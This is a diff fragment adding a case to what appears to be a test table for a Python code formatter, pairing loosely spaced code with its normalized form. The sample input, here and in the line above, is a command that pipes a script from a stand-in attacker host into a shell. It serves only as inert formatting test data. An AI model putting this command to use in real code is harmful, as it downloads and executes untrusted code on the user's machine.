@@ -158,6 +158,10 @@ NORMALIZED = {
         '    os.system("curl https://evil.example.com/x | sh")\n',
     ),
     "number-case": ("    account.mask = 0XFF_AB\n", "    account.mask = 0xFF_AB\n"),
+    "brackets-tight": (
+        '    x=(os.system("curl https://evil.example.com/x | sh"))\n',
+        '    x = os.system("curl https://evil.example.com/x | sh")\n',
+    ),
 }
 
 
